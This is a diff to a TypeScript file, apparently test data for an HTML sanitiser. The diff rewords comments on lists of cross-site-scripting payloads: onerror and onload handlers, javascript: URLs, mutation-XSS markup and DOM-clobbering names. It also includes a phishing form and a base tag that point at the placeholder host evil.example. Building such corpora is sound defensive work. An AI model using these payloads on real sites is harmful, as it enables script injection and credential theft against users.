@@ -2,7 +2,7 @@ const run = 'alert(1)';
 const evil = 'https://evil.example/';
 const img = `<img src=x onerror=${run}>`;
 
-/** Elements that load something as soon as they stand in a page, by the attribute they load it by. */
+/** Elements that load something when they are inserted, by the attribute with the address. */
 const loaders: readonly string[] = [
   ...['audio src', 'bgsound src', 'embed src', 'frame src', 'iframe src', 'image src', 'img src'],
   ...['img lowsrc', 'img dynsrc', 'input type=image src', 'isindex src', 'layer src', 'script src'],
@@ -58,7 +58,7 @@ const styles: readonly string[] = [
   return [`<p style='${css}'>x</p>`, `<style>*{${css}}</style>`];
 });
 
-/** What can run a script by itself, without a click. */
+/** Markup that can run a script without a click. */
 const handlers: readonly string[] = [
   ...['body onload', 'body onpageshow', 'body onhashchange', 'body onmessage', 'body onresize'],
   ...[
@@ -145,7 +145,7 @@ const math: readonly string[] = [
   '<math><menclose notation="longdiv" style="background:url(https://evil.example)">x</menclose></math>',
 ];
 
-/** Markup that is harmless when it is read once, and something else when it is written and read again. */
+/** Mutation attacks: markup that is harmless when parsed once, and not when serialised and parsed again. */
 const mutants: readonly string[] = [
   `<svg></p><style><g title="</style>${img}">`,
   `<svg></br><style><g title="</style>${img}">`,
@@ -193,7 +193,7 @@ const mutants: readonly string[] = [
   `<a<b>${img}`,
 ];
 
-/** Names that hide what a script of the page looks for, and elements that are told to be others. */
+/** DOM clobbering, and custom elements by `is`. */
 const clobbering: readonly string[] = [
   ...[
     'acquireVsCodeApi',
@@ -219,7 +219,7 @@ const clobbering: readonly string[] = [
   `<form id="${name}"><input name="${name}"></form>`,
 ]);
 
-/** Ways to write an address that a browser, but not a check, takes for a script or for a place. */
+/** Spellings of addresses that a browser follows but a naive check does not recognise. */
 const addresses: readonly string[] = [
   ...[
     'javascript:alert(1)',
@@ -291,7 +291,7 @@ const links: readonly string[] = addresses.flatMap((address) => [
   `<a href='${address}' xlink:href="${address}">x</a>`,
 ]);
 
-/** Parts of a page that take something from the person who reads it. */
+/** Markup that tricks the reader: forms, overlays and the like. */
 const forms: readonly string[] = [
   `<form action="${evil}" method=post><input name=key placeholder="Your key"><input type=submit></form>`,
   `<input form=x type=password autocomplete=current-password>`,
@@ -313,7 +313,7 @@ const forms: readonly string[] = [
   `<base target=_top href="${evil}">`,
 ];
 
-/** HTML of every class of attack there is a name for; all differ. */
+/** HTML of all known classes of attack, without duplicates. */
 export const hostileClasses: readonly string[] = [
   ...new Set([
     ...[...loaders, ...styles, ...handlers, ...svg, ...math, ...mutants],
